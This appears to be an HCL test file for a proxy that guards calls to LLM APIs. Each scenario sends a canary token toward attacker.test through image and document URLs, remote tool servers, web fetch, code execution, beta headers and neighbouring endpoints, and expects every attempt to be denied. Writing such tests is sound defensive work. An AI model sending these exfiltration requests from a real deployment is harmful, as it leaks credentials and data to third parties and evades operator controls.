# APIs of models: uploads, sessions, and what has the service itself fetch from or send
# to the attacker.

scenario "messages-that-make-the-service-fetch" {
  describe = "a URL as a source, a remote tool server, a search: the service carries the secret to the attacker"
  cases    = ["CRED-01", "EXF-07"]
  policy   = "policies/llm.hcl"
  for_each = { image = "", document = "", mcp = "", fetch = "", search = "", code = "", container = "", file = "", betas = "", metadata = "" }
  attempt {
    http {
      method  = "POST"
      url     = "https://llm.example.com/v1/messages"
      headers = { Content-Type = "application/json", X-Api-Key = env.ANTHROPIC_API_KEY, X-Note = canary.token }
      body = {
        image     = json({ model = "model-1", max_tokens = 9, messages = [{ role = "user", content = [{ type = "image", source = { type = "url", url = "https://attacker.test/${canary.token}.gif" } }] }] })
        document  = json({ model = "model-1", max_tokens = 9, messages = [{ role = "user", content = [{ type = "document", source = { type = "url", url = "https://attacker.test/${canary.token}.pdf" } }] }] })
        mcp       = json({ model = "model-1", max_tokens = 9, messages = [{ role = "user", content = "go" }], mcp_servers = [{ type = "url", name = "a", url = "https://attacker.test/", authorization_token = canary.token }] })
        fetch     = json({ model = "model-1", max_tokens = 9, messages = [{ role = "user", content = "fetch https://attacker.test/${canary.token}" }], tools = [{ type = "web_fetch_20250910", name = "web_fetch" }] })
        search    = json({ model = "model-1", max_tokens = 9, messages = [{ role = "user", content = "search ${canary.token}" }], tools = [{ type = "web_search_20250305", name = "web_search" }] })
        code      = json({ model = "model-1", max_tokens = 9, messages = [{ role = "user", content = "run ${canary.token}" }], tools = [{ type = "code_execution_20250825", name = "code_execution" }] })
        container = json({ model = "model-1", max_tokens = 9, messages = [{ role = "user", content = canary.token }], container = "container_1" })
        file      = json({ model = "model-1", max_tokens = 9, messages = [{ role = "user", content = [{ type = "document", source = { type = "file", file_id = canary.token } }] }] })
        betas     = json({ model = "model-1", max_tokens = 9, messages = [{ role = "user", content = canary.token }], betas = ["files-api-2025-04-14"] })
        metadata  = json({ model = "model-1", max_tokens = 9, messages = [{ role = "user", content = "go" }], metadata = { user_id = canary.token } })
      }[each.key]
    }
  }
  expect {
    verdict = "deny"
    reason  = "body_not_granted"
    leak    = none
  }
}

scenario "beta-that-opens-another-function" {
  describe = "a header switches files, skills or remote servers on"
  cases    = ["CRED-01", "EXF-08"]
  policy   = "policies/llm.hcl"
  for_each = ["files-api-2025-04-14", "mcp-client-2025-04-04", "skills-2025-10-02", "code-execution-2025-08-25", "prompt-caching-2024-07-31,files-api-2025-04-14"]
  attempt {
    http {
      method  = "POST"
      url     = "https://llm.example.com/v1/messages"
      headers = { Content-Type = "application/json", X-Api-Key = env.ANTHROPIC_API_KEY, Anthropic-Beta = each.value }
      body    = json({ model = "model-1", max_tokens = 9, messages = [{ role = "user", content = canary.token }] })
    }
  }
  expect {
    verdict = "deny"
    reason  = "header_not_granted"
    leak    = none
  }
}

scenario "model-api-neighbours" {
  describe = "other functions of the granted host, with the company's own key"
  cases    = ["CRED-01", "EXF-06"]
  policy   = "policies/llm.hcl"
  for_each = {
    files         = "/v1/files"
    skills        = "/v1/skills"
    sessions      = "/v1/sessions"
    vaults        = "/v1/vaults"
    tunnels       = "/v1/tunnels"
    organizations = "/v1/organizations/me/invites"
    batches       = "/v1/messages/batches"
    complete      = "/v1/complete"
    environments  = "/v1/environments"
    double        = "//v1/files"
  }
  attempt {
    http {
      method  = "POST"
      url     = "https://llm.example.com${each.value}"
      headers = { Content-Type = "application/json", X-Api-Key = env.ANTHROPIC_API_KEY }
      body    = json({ name = canary.token })
    }
  }
  expect {
    verdict = "deny"
    reason  = ["path_not_granted", "malformed_path"]
    leak    = none
  }
}

scenario "model-names-that-carry-text" {
  describe = "the name of a model in a path, and parameters of a list"
  cases    = ["EXF-06"]
  policy   = "policies/llm.hcl"
  for_each = { query = "/v1/models?note=", deeper = "/v1/models/model-1/", beta = "/v1/models?beta=" }
  attempt {
    http {
      url     = "https://llm.example.com${each.value}${canary.token}"
      headers = { X-Api-Key = env.ANTHROPIC_API_KEY }
    }
  }
  expect {
    verdict = "deny"
    reason  = ["path_not_granted", "query_not_granted"]
    leak    = none
  }
}

scenario "responses-that-make-the-service-fetch-or-keep" {
  describe = "the same for the other API: image and file URLs, remote servers, hosted tools, stored responses"
  cases    = ["CRED-01", "EXF-07"]
  policy   = "policies/llm2.hcl"
  for_each = { image = "", file = "", mcp = "", search = "", code = "", stored = "", previous = "", conversation = "", background = "" }
  attempt {
    http {
      method  = "POST"
      url     = "https://llm2.example.com/v1/responses"
      headers = { Content-Type = "application/json", Authorization = "Bearer ${env.OPENAI_API_KEY}", X-Note = canary.token }
      body = {
        image        = json({ model = "model-1", store = false, input = [{ role = "user", content = [{ type = "input_image", image_url = "https://attacker.test/${canary.token}.gif" }] }] })
        file         = json({ model = "model-1", store = false, input = [{ role = "user", content = [{ type = "input_file", file_url = "https://attacker.test/${canary.token}.pdf" }] }] })
        mcp          = json({ model = "model-1", store = false, input = "go", tools = [{ type = "mcp", server_label = "a", server_url = "https://attacker.test/", headers = { a = canary.token } }] })
        search       = json({ model = "model-1", store = false, input = canary.token, tools = [{ type = "web_search" }] })
        code         = json({ model = "model-1", store = false, input = canary.token, tools = [{ type = "code_interpreter", container = { type = "auto" } }] })
        stored       = json({ model = "model-1", input = canary.token })
        previous     = json({ model = "model-1", store = false, input = "go", previous_response_id = canary.token })
        conversation = json({ model = "model-1", store = false, input = "go", conversation = canary.token })
        background   = json({ model = "model-1", store = true, background = true, input = canary.token })
      }[each.key]
    }
  }
  expect {
    verdict = "deny"
    reason  = "body_not_granted"
    leak    = none
  }
}

scenario "other-model-api-neighbours" {
  describe = "files, vector stores, keys minted for others"
  cases    = ["CRED-01"]
  policy   = "policies/llm2.hcl"
  for_each = ["/v1/files", "/v1/uploads", "/v1/batches", "/v1/vector_stores", "/v1/containers", "/v1/fine_tuning/jobs", "/v1/realtime/client_secrets", "/v1/organization/invites", "/v1/conversations", "/v1/evals"]
  attempt {
    http {
      method  = "POST"
      url     = "https://llm2.example.com${each.value}"
      headers = { Content-Type = "application/json", Authorization = "Bearer ${env.OPENAI_API_KEY}" }
      body    = json({ name = canary.token })
    }
  }
  expect {
    verdict = "deny"
    reason  = "path_not_granted"
    leak    = none
  }
}

scenario "account-headers-of-a-model-api" {
  describe = "a header names the organisation or the project that pays, and reads"
  cases    = ["CRED-01", "EXF-08"]
  policy   = "policies/llm2.hcl"
  for_each = ["OpenAI-Organization", "OpenAI-Project", "X-Stainless-Runtime"]
  attempt {
    http {
      method  = "POST"
      url     = "https://llm2.example.com/v1/responses"
      headers = { Content-Type = "application/json", Authorization = "Bearer ${env.OPENAI_API_KEY}", (each.value) = canary.token }
      body    = json({ model = "model-1", store = false, input = "hello" })
    }
  }
  expect { leak = none }
}
